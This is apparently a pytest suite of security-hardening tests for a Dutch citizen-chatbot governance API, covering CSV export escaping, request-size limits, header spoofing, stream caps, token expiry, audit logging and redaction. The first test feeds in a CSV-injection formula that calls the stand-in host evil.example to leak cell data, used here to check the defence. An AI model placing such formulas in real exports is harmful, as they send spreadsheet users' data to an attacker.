"""Deployment hardening (issue 15): each test fails without its fix."""

from __future__ import annotations

import contextlib
import csv
import datetime as dt
import io
import select
import socket
import time

import httpx
import pytest
from fastapi.testclient import TestClient

from governance import migrations
from governance.config import Settings
from governance.errors import Problem
from governance.events import QUEUE_TOPIC
from governance.main import create_app
from governance.sse import StreamLimits
from governance.staff import service as staff_service
from governance.staff.models import StaffAccount
from tests.governance.conftest import (
    OPEN_MOMENT,
    TEST_ACTOR,
    TEST_KEY,
    FakeBot,
    FrozenClock,
    LiveServer,
    make_account,
    say,
    start,
)


def test_a_citizen_formula_is_plain_text_in_the_decision_csv(client, staff):
    conversation = start(client)
    say(client, conversation, text='=HYPERLINK("http://evil.example/?x="&A1,"klik") wat kost een paspoort')
    say(client, conversation, text="@SUM(1+1) en +31 of -2")
    response = client.get(
        "/api/v1/decisions",
        params={"format": "csv", "conversationId": conversation["conversation_id"]},
        headers=staff["reviewer"]["headers"],
    )
    rows = list(csv.DictReader(io.StringIO(response.text)))
    texts = [row["input_text_redacted"] for row in rows]
    assert len(texts) == 2
    assert all(text.startswith("'") for text in texts), texts
    assert any(text.startswith("'=HYPERLINK") for text in texts)
    # the JSON of the same records keeps the text as typed: only spreadsheets need the apostrophe
    items = client.get(
        "/api/v1/decisions",
        params={"conversationId": conversation["conversation_id"]},
        headers=staff["reviewer"]["headers"],
    ).json()["items"]
    assert any(item["input_text_redacted"].startswith("=HYPERLINK") for item in items)


# --- request bodies --------------------------------------------------------------------------------------


def _live(tmp_path, **overrides) -> tuple[LiveServer, object]:
    url = f"sqlite:///{tmp_path / 'hardening.db'}"
    migrations.upgrade(url)
    settings = Settings(database_url=url, bot_secret="t", encryption_key=TEST_KEY, retention_interval_minutes=0, **overrides)
    app = create_app(settings, bot=FakeBot())
    app.state.runtime.clock = FrozenClock(OPEN_MOMENT)
    return LiveServer(app), app


class BodyCounter:
    """Outside everything: counts the request-body bytes the server hands to the app."""

    def __init__(self, app) -> None:
        self.app = app
        self.state = app.state
        self.read = 0
        self.largest = 0  # the server may hand several chunks over in one message when it is busy

    async def __call__(self, scope, receive, send) -> None:
        async def counted():
            message = await receive()
            self.read += len(message.get("body", b""))
            self.largest = max(self.largest, len(message.get("body", b"")))
            return message

        await self.app(scope, counted, send)


def test_a_chunked_upload_over_the_limit_is_refused_before_the_body_is_read(tmp_path):
    _, app = _live(tmp_path)
    counter = BodyCounter(app)
    frame_body = b"x" * 8192
    frame = b"%x\r\n" % len(frame_body) + frame_body + b"\r\n"
    with LiveServer(counter) as server, socket.create_connection(("127.0.0.1", server.port)) as sock:
        sock.sendall(
            b"POST /api/v1/conversations HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
            b"Transfer-Encoding: chunked\r\n\r\n"
        )
        sock.setblocking(False)
        sent, response = 0, b""
        deadline = time.monotonic() + 20
        while sent < 8 * 1024 * 1024 and time.monotonic() < deadline:  # the client would go on to 8 MiB
            readable, writable, _ = select.select([sock], [sock], [], 1)
            if readable:
                data = sock.recv(65536)
                response += data
                if not data or b"\r\n\r\n" in response:
                    break
            if writable:
                with contextlib.suppress(BlockingIOError, BrokenPipeError, ConnectionResetError):
                    sent += sock.send(frame)
    assert response.startswith(b"HTTP/1.1 413"), response[:200]
    limit = app.state.runtime.settings.max_body_bytes
    # no message is read once the limit is crossed: at most the limit plus the one message that crossed it
    assert counter.read <= limit + max(len(frame_body), counter.largest), f"the app was handed {counter.read} of {sent} bytes"


def test_a_chunked_body_under_the_limit_still_works(client):
    def chunks():
        yield b'{"text": '
        yield b'"wat kost een paspoort"}'

    created = client.post("/api/v1/conversations", json={}).json()
    response = client.post(
        f"/api/v1/conversations/{created['conversation_id']}/messages",
        content=chunks(),
        headers={"Authorization": f"Bearer {created['token']}", "Content-Type": "application/json"},
    )
    assert response.status_code == 200, response.text


# --- addresses, paths, docs --------------------------------------------------------------------------------


def test_a_local_client_cannot_choose_its_address_with_x_forwarded_for(tmp_path):
    server, app = _live(tmp_path, rate_limit_starts_per_minute=2)
    with server, httpx.Client(base_url=server.url) as http:
        statuses = [
            http.post("/api/v1/conversations", json={}, headers={"X-Forwarded-For": f"10.0.0.{i}"}).status_code for i in range(3)
        ]
    assert statuses == [201, 201, 429]  # one client, one key: the header named three


def test_a_configured_proxy_is_trusted_for_the_citizen_address(tmp_path):
    server, app = _live(tmp_path, rate_limit_starts_per_minute=2, forwarded_allow_ips="127.0.0.1")
    with server, httpx.Client(base_url=server.url) as http:
        statuses = [
            http.post("/api/v1/conversations", json={}, headers={"X-Forwarded-For": f"10.0.0.{i}"}).status_code for i in range(3)
        ]
    assert statuses == [201, 201, 201]


@pytest.mark.parametrize("path", ["/static/%00", "/static/widget.js%00.png", "/static/vendor/%00nlds.css"])
def test_a_nul_byte_in_a_static_path_is_a_404(client, path):
    response = client.get(path)
    assert response.status_code == 404


def test_api_docs_come_from_our_own_origin_under_a_policy(client):
    response = client.get("/api/v1/docs")
    if response.status_code == 404:
        pytest.fail("Swagger UI files missing: make setup copies them into governance/static/vendor/swagger-ui")
    assert response.status_code == 200
    policy = response.headers["Content-Security-Policy"]
    assert "script-src 'self'" in policy and "cdn" not in response.text.lower()
    assert '<script src="/static/vendor/swagger-ui/swagger-ui-bundle.js">' in response.text
    assert client.get("/static/vendor/swagger-ui/swagger-ui-bundle.js").status_code == 200


def test_api_docs_can_be_switched_off(tmp_path):
    url = f"sqlite:///{tmp_path / 'nodocs.db'}"
    migrations.upgrade(url)
    app = create_app(Settings(database_url=url, bot_secret="t", encryption_key=TEST_KEY, api_docs=False), bot=FakeBot())
    with TestClient(app) as http:
        assert http.get("/api/v1/docs").status_code == 404
        assert http.get("/api/v1/openapi.json").status_code == 200  # the contract stays readable


# --- event streams -----------------------------------------------------------------------------------------


def test_streams_are_capped_per_conversation_and_in_total():
    limits = StreamLimits(per_key=2, total=3)
    first, second = limits.acquire("conversation:a"), limits.acquire("conversation:a")
    with pytest.raises(Problem) as refused:
        limits.acquire("conversation:a")
    assert refused.value.status == 503 and refused.value.headers["Retry-After"]
    third = limits.acquire("conversation:b")
    with pytest.raises(Problem):
        limits.acquire("conversation:c")  # the worker's total
    first.release()
    first.release()  # twice is once
    assert limits.open == 2
    limits.acquire("conversation:c")
    second.release(), third.release()


def test_a_fourth_stream_of_one_conversation_gets_503_with_retry_after(client, app):
    app.state.runtime.streams = StreamLimits(per_key=1, total=10)
    created = client.post("/api/v1/conversations", json={}).json()
    headers = {"Authorization": f"Bearer {created['token']}"}
    slot = app.state.runtime.streams.acquire(f"conversation:{created['conversation_id']}")  # an open stream
    response = client.get(f"/api/v1/conversations/{created['conversation_id']}/stream", headers=headers)
    assert response.status_code == 503 and response.headers["Retry-After"] == "30"
    assert response.json()["code"] == "too_many_streams"
    slot.release()


def test_a_citizen_stream_follows_the_queue_only_while_waiting(tmp_path):
    server, app = _live(tmp_path)
    bus = app.state.runtime.events
    with server, httpx.Client(base_url=server.url, timeout=10) as http:
        created = http.post("/api/v1/conversations", json={}).json()
        headers = {"Authorization": f"Bearer {created['token']}"}
        url = f"/api/v1/conversations/{created['conversation_id']}"
        with http.stream("GET", f"{url}/stream", headers=headers) as stream:
            lines = stream.iter_lines()
            next(lines)  # retry:
            time.sleep(0.5)
            assert not bus._waiters.get(QUEUE_TOPIC), "a chatting citizen's stream woke for every queue change"
            http.post(f"{url}/messages", json={"text": "ik wil een medewerker spreken"}, headers=headers)
            http.post(f"{url}/messages", json={"payload": "/accept_human"}, headers=headers)
            deadline = time.monotonic() + 5
            while not bus._waiters.get(QUEUE_TOPIC) and time.monotonic() < deadline:
                time.sleep(0.1)
            assert bus._waiters.get(QUEUE_TOPIC), "a waiting citizen must hear the queue move"


# --- staff tokens and reads --------------------------------------------------------------------------------


def test_a_staff_token_expires_and_rotating_ends_the_old_one(client, app, clock):
    runtime = app.state.runtime
    with runtime.session_factory() as session:
        account, token = staff_service.create_account(
            session, TEST_ACTOR, name="Sara Shift", role="agent", token_hours=12, now=runtime.clock()
        )
    headers = {"Authorization": f"Bearer {token}"}
    assert client.get("/api/v1/escalations", headers=headers).status_code == 200
    clock.moment += dt.timedelta(hours=13)
    expired = client.get("/api/v1/escalations", headers=headers)
    assert expired.status_code == 401 and expired.json()["code"] == "staff_token_expired"
    with runtime.session_factory() as session:
        fresh = staff_service.rotate_token(
            session, TEST_ACTOR, session.get(StaffAccount, account.id), token_hours=12, now=runtime.clock()
        )
    assert client.get("/api/v1/escalations", headers={"Authorization": f"Bearer {fresh}"}).status_code == 200
    assert client.get("/api/v1/escalations", headers=headers).status_code == 401


def test_every_staff_read_is_audited_the_stream_too(tmp_path):
    server, app = _live(tmp_path)
    with server, httpx.Client(base_url=server.url, timeout=10) as http:
        agent = make_account(app, "agent")["headers"]
        reviewer = make_account(app, "reviewer")["headers"]
        admin = make_account(app, "admin")["headers"]
        created = http.post("/api/v1/conversations", json={}).json()
        url = f"/api/v1/conversations/{created['conversation_id']}/messages"
        citizen = {"Authorization": f"Bearer {created['token']}"}
        http.post(url, json={"text": "ik wil een medewerker spreken"}, headers=citizen)
        http.post(url, json={"payload": "/accept_human"}, headers=citizen)
        escalation = http.get("/api/v1/escalations", headers=agent).json()["items"][0]
        reads = [
            ("/api/v1/escalations", agent, "escalations.list"),
            ("/api/v1/statistics", reviewer, "statistics.read"),
            ("/api/v1/review-items", reviewer, "review_items.list"),
            ("/api/v1/nlu-proposals", reviewer, "nlu_proposals.list"),
            ("/api/v1/knowledge-reviews", reviewer, "knowledge_reviews.list"),
            ("/api/v1/admin/accounts", admin, "accounts.list"),
            ("/api/v1/admin/kill-switch", agent, "kill_switch.read"),
            ("/api/v1/staff/guide", agent, "staff_guide.read"),
        ]
        for path, headers, _ in reads:
            assert http.get(path, headers=headers).status_code == 200, path
        for path in (f"/api/v1/escalations/{escalation['id']}/stream", "/api/v1/escalations/stream"):
            with http.stream("GET", path, headers=agent) as stream:
                assert stream.status_code == 200
                next(stream.iter_lines())
        entries = http.get("/api/v1/audit", params={"limit": 500}, headers=reviewer).json()["items"]
    actions = {e["action"] for e in entries}
    for _, _, action in reads:
        assert action in actions, action
    assert {"escalation.stream", "escalations.stream"} <= actions


# --- rate limits --------------------------------------------------------------------------------------------


def test_a_stranger_with_the_id_cannot_use_up_a_conversation_quota(tmp_path):
    url = f"sqlite:///{tmp_path / 'quota.db'}"
    migrations.upgrade(url)
    settings = Settings(
        database_url=url, bot_secret="t", encryption_key=TEST_KEY, retention_interval_minutes=0,
        rate_limit_conversation_per_minute=3, rate_limit_ip_per_minute=0,
    )  # fmt: skip
    app = create_app(settings, bot=FakeBot())
    app.state.runtime.clock = FrozenClock(OPEN_MOMENT)
    with TestClient(app) as http:
        created = http.post("/api/v1/conversations", json={}).json()
        path = f"/api/v1/conversations/{created['conversation_id']}/messages"
        for _ in range(10):
            assert http.post(path, json={"text": "hoi"}, headers={"Authorization": "Bearer fout"}).status_code == 403
        owner = {"Authorization": f"Bearer {created['token']}"}
        assert [http.post(path, json={"text": "paspoort"}, headers=owner).status_code for _ in range(4)] == [
            200, 200, 200, 429,
        ]  # fmt: skip


def test_why_this_answer_says_what_kind_of_data_was_taken_out(client):
    conversation = start(client)
    reply = say(client, conversation, text="ik heb autisme en mijn bsn is 214.883.521, welke hulp is er")
    explanation = next(m["explanation"] for m in reply["messages"] if m.get("explanation"))
    assert explanation["pii_redacted"] == ["health", "bsn"]  # in the order they appeared
    assert "iets over je gezondheid en je BSN uit je bericht gehaald" in explanation["summary_nl"]


def test_an_agent_keeps_their_own_name_but_not_the_citizens(client, staff):
    conversation = start(client)
    say(client, conversation, text="ik wil een medewerker spreken")
    say(client, conversation, payload="/accept_human")
    agent = staff["agent"]["headers"]  # "Anna Agent"
    escalation = client.get("/api/v1/escalations", headers=agent).json()["items"][0]["id"]
    client.post(f"/api/v1/escalations/{escalation}/claim", headers=agent)
    sent = client.post(
        f"/api/v1/escalations/{escalation}/messages",
        json={"text": "Goedemiddag, ik ben Anna. Bent u mevrouw Wilhelmina Pietersen?"},
        headers=agent,
    ).json()
    assert sent["text"] == "Goedemiddag, ik ben Anna. Bent u mevrouw [NAAM]?"
